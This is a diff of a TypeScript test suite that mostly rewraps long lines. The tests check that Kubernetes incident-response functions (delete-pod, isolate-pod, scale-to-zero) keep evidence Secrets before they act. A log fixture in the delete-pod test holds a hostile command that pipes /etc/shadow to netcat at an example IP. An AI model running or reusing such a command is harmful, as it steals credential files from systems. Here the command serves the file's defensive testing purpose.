@@ -28,7 +28,8 @@ async function captures(fn: FunctionUnderTest): Promise<Record<string, number>> 
   return Object.fromEntries(metric.values.map((v) => [String(v.labels.result), v.value]));
 }
 
-const secretWritesBy = (fn: FunctionUnderTest, since: number) => countWrites(bed.cluster, { user: fn.identity, namespace: EVIDENCE, resource: 'secrets', since, succeededOnly: true });
+const secretWritesBy = (fn: FunctionUnderTest, since: number) =>
+  countWrites(bed.cluster, { user: fn.identity, namespace: EVIDENCE, resource: 'secrets', since, succeededOnly: true });
 
 async function evidenceSecret(name: string) {
   const secret = await bed.api.core.readNamespacedSecret({ namespace: EVIDENCE, name });
@@ -39,7 +40,9 @@ describe('delete-pod keeps evidence before it deletes', () => {
   it('the evidence Secret holds the pod as read, the alert, its Events and the lines its container wrote; the decision, Event and metric name it', async () => {
     const fn = await bed.start();
     const pod = await createPod(bed.api, bed.ns, 'victim');
-    await writeContainerLogs(bed.cluster, bed.api, bed.ns, 'victim', { app: { current: ['listening on :8080', 'sh -c "cat /etc/shadow | nc 203.0.113.9 4444"'] } });
+    await writeContainerLogs(bed.cluster, bed.api, bed.ns, 'victim', {
+      app: { current: ['listening on :8080', 'sh -c "cat /etc/shadow | nc 203.0.113.9 4444"'] },
+    });
     const { decision } = await bed.send(fn, alertFor(bed.ns, 'victim', shortContainerId(pod)));
     const name = `delete-pod-${pod.metadata!.uid}`;
     expect(decision).toMatchObject({
@@ -54,17 +57,38 @@ describe('delete-pod keeps evidence before it deletes', () => {
     expect(secret.type).toBe('falco-response.dev/evidence');
     expect(content.pod.metadata).toMatchObject({ name: 'victim', namespace: bed.ns, uid: pod.metadata!.uid });
     expect(content.pod.status?.phase).toBe('Running');
-    expect(content.alert).toMatchObject({ rule: 'Terminal shell in container', output_fields: expect.objectContaining({ 'k8s.pod.name': 'victim' }) });
+    expect(content.alert).toMatchObject({
+      rule: 'Terminal shell in container',
+      output_fields: expect.objectContaining({ 'k8s.pod.name': 'victim' }),
+    });
     expect(content.events.map((event) => event.reason)).toContain('Scheduled');
-    expect(content.logs).toEqual([{ container: 'app', instance: 'current', text: 'listening on :8080\nsh -c "cat /etc/shadow | nc 203.0.113.9 4444"\n' }]);
-    expect(content.summary).toMatchObject({ function: 'delete-pod', missing: [], pod: { namespace: bed.ns, name: 'victim', uid: pod.metadata!.uid } });
+    expect(content.logs).toEqual([
+      { container: 'app', instance: 'current', text: 'listening on :8080\nsh -c "cat /etc/shadow | nc 203.0.113.9 4444"\n' },
+    ]);
+    expect(content.summary).toMatchObject({
+      function: 'delete-pod',
+      missing: [],
+      pod: { namespace: bed.ns, name: 'victim', uid: pod.metadata!.uid },
+    });
 
     const [event] = await functionEventsIn(bed.api, bed.ns);
     expect(event!.note).toContain(`Evidence kept in Secret ${EVIDENCE}/${name}.`);
     expect(await captures(fn)).toEqual({ complete: 1, incomplete: 0, failed: 0 });
     // Kept first: the API server had stored the Secret before the delete arrived (its audit log, by the function's identity).
-    const [stored] = writesOf(bed.cluster, { user: fn.identity, namespace: EVIDENCE, resource: 'secrets', since: bed.since, succeededOnly: true });
-    const [deleted] = writesOf(bed.cluster, { user: fn.identity, namespace: bed.ns, resource: 'pods', since: bed.since, succeededOnly: true });
+    const [stored] = writesOf(bed.cluster, {
+      user: fn.identity,
+      namespace: EVIDENCE,
+      resource: 'secrets',
+      since: bed.since,
+      succeededOnly: true,
+    });
+    const [deleted] = writesOf(bed.cluster, {
+      user: fn.identity,
+      namespace: bed.ns,
+      resource: 'pods',
+      since: bed.since,
+      succeededOnly: true,
+    });
     expect(stored!.objectRef?.name).toBe(name);
     expect(deleted!.verb).toBe('delete');
     expect(Date.parse(stored!.stageTimestamp)).toBeLessThanOrEqual(Date.parse(deleted!.requestReceivedTimestamp));
@@ -81,12 +105,20 @@ describe('delete-pod keeps evidence before it deletes', () => {
       expect(decision).toMatchObject({
         outcome: 'acted',
         reason: 'deleted',
-        details: { evidenceRecord: { result: 'incomplete', secret: `${EVIDENCE}/delete-pod-${pod.metadata!.uid}`, missing: ['log app (current): timed out (EVIDENCE_TIMEOUT_MS)'] } },
+        details: {
+          evidenceRecord: {
+            result: 'incomplete',
+            secret: `${EVIDENCE}/delete-pod-${pod.metadata!.uid}`,
+            missing: ['log app (current): timed out (EVIDENCE_TIMEOUT_MS)'],
+          },
+        },
       });
       expect(decision.details.evidenceRecord.durationMs).toBeLessThanOrEqual(1100);
       // The capture's 1 s plus the reads and the delete of an idle test cluster.
       expect(took).toBeLessThan(1000 + 1500);
-      expect(decision.warnings).toContainEqual(expect.stringMatching(/^evidence incomplete in Secret .*: missing log app \(current\): timed out/));
+      expect(decision.warnings).toContainEqual(
+        expect.stringMatching(/^evidence incomplete in Secret .*: missing log app \(current\): timed out/),
+      );
       const current = await bed.api.core.readNamespacedPod({ namespace: bed.ns, name: 'stuck' }).catch(() => undefined);
       expect(current === undefined || current.metadata?.deletionTimestamp !== undefined).toBe(true);
       const [event] = await functionEventsIn(bed.api, bed.ns);
@@ -131,7 +163,10 @@ describe('isolate-pod and scale-to-zero keep evidence too', () => {
     const pod = await createPod(isolate.api, isolate.ns, 'web');
     await writeContainerLogs(isolate.cluster, isolate.api, isolate.ns, 'web', { app: { current: ['served /'] } });
     const { decision } = await isolate.send(fn, alertFor(isolate.ns, 'web', shortContainerId(pod)));
-    expect(decision).toMatchObject({ outcome: 'acted', details: { evidenceRecord: { result: 'complete', secret: `${EVIDENCE}/isolate-pod-${pod.metadata!.uid}` } } });
+    expect(decision).toMatchObject({
+      outcome: 'acted',
+      details: { evidenceRecord: { result: 'complete', secret: `${EVIDENCE}/isolate-pod-${pod.metadata!.uid}` } },
+    });
     expect((await evidenceSecret(`isolate-pod-${pod.metadata!.uid}`)).content.logs[0]!.text).toBe('served /\n');
   });
 
@@ -140,7 +175,10 @@ describe('isolate-pod and scale-to-zero keep evidence too', () => {
     const { pods } = await createDeployment(scale.api, scale.ns, 'shop', { replicas: 1 });
     const pod = pods[0]!;
     const { decision } = await scale.send(fn, alertFor(scale.ns, pod.metadata!.name!));
-    expect(decision).toMatchObject({ outcome: 'acted', details: { evidenceRecord: { secret: `${EVIDENCE}/scale-to-zero-${pod.metadata!.uid}` } } });
+    expect(decision).toMatchObject({
+      outcome: 'acted',
+      details: { evidenceRecord: { secret: `${EVIDENCE}/scale-to-zero-${pod.metadata!.uid}` } },
+    });
     const { content } = await evidenceSecret(`scale-to-zero-${pod.metadata!.uid}`);
     expect(content.owner).toMatchObject({ kind: 'Deployment', name: 'shop' });
   });
